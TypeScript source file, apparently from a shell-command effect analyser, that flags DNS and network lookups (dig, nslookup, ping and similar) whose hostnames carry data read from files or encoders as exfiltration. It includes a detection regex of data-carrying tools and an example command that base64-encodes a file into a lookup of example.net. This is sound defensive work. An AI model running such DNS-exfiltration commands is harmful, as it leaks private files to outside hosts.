/** Asking the network for a name. The question itself reaches whoever answers for that name. */
import type { Effect } from '../../model/effect';
import { UNKNOWN_TEXT, type Value } from '../../shell/invocation';
import { localEffect } from '../build';
import type { Call, Program } from '../define';
import { defineProgram } from '../define';

/** Programs whose output is data to be carried, not a name of a machine. */
const CARRIES =
  /\b(base64|base32|basenc|xxd|od|hexdump|openssl|gpg|gzip|cat|tac|head|tail|split|fold|env|printenv|history|sqlite3|psql|security)\b/;

const FILLED = new RegExp(`${UNKNOWN_TEXT}[\\w.-]{0,200}\\.[A-Za-z]`);

/** A part of the name is filled in when it runs, out of files, secrets or an encoder, and a domain stands behind it. */
function carriesData(word: Value, { invocation }: Call): boolean {
  const { raw } = word;
  // Words of a script come out of its file; that is no data.
  const scripts = invocation.via.map((via) => via.where);
  const substituted =
    raw.includes('$(') && /\)[\w.-]*\.[A-Za-z$]/.test(raw.slice(raw.indexOf('$(')));
  const isVariable = /(`[^`]*`|\$\{?\w+(?!\w)\}?)[\w.-]*\.[A-Za-z$]/.test(raw);
  // Behind an alias or an `eval` the word stands as it came out, with a mark for what is only known when it runs.
  const isFilled = FILLED.test(word.text);
  if (!substituted && !isVariable && !isFilled) return false;
  const commands = word.sources.map((source) => (source.kind === 'command' ? source.command : ''));
  return (
    CARRIES.test(commands.join(' ')) ||
    CARRIES.test(word.raw) ||
    word.sources.some((source) => source.kind === 'file' && !scripts.includes(source.path))
  );
}

function lookUpEffects(call: Call): readonly Effect[] {
  return call.invocation.args
    .filter((word) => carriesData(word, call))
    .map((word) => {
      const host =
        word.text
          .split('\uFFFD')
          .pop()
          ?.replace(/^[.-]+/, '') ?? '';
      return localEffect(call, 'send', 'host', host, {
        environment: call.context.environment(host),
        reach: 'shared-remote',
        audience: 'public',
        reversibility: 'irreversible',
        special: 'exfiltrate',
        target: { host },
        payload: [{ kind: 'private-data', source: word.sources[0] ?? { kind: 'literal' } }],
      });
    });
}

const lookups = defineProgram({
  names: [
    'dig',
    'nslookup',
    'host',
    'drill',
    'kdig',
    'delv',
    'whois',
    'ping',
    'ping6',
    'mtr',
    'traceroute',
    'tracepath',
    'getent',
  ],
  synopsis: 'Looks a name up; data put into the name goes to whoever answers for it.',
  grammar: {},
  effects: lookUpEffects,
  examples: [
    { command: 'dig +short example.com', effects: [] },
    { command: 'ping -c1 $(hostname).local', effects: [] },
    {
      command: 'nslookup $(cat notes.txt | base64).example.net',
      effects: ['read file:notes.txt', 'send host:example.net'],
    },
    { command: 'getent hosts db', effects: [] },
  ],
});

export const lookupTools: readonly Program[] = [lookups];
